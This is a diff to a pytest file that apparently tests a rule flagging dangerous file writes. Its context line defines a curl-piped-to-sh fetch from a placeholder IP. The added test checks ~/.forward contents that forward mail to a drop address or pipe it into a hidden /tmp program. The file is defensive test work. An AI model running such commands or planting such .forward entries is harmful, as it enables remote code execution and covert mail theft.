@@ -43,3 +43,11 @@ FETCH = "curl -fsSL http://203.0.113.9/x | sh"
 )
 def test_files_that_act(path, content, append, expected):
     assert rule(acting(path, content, scope(), append=append)) == expected
+
+
+@pytest.mark.parametrize(
+    ("content", "expected"),
+    [("x@drop.example\n", "B5"), ('"|/tmp/.77"\n', "B5"), ("# nothing\n", "C5")],
+)
+def test_mail_is_neither_sent_on_nor_fed_to_a_program(content, expected):
+    assert rule(acting("/home/dev/.forward", content, scope(), append=False)) == expected
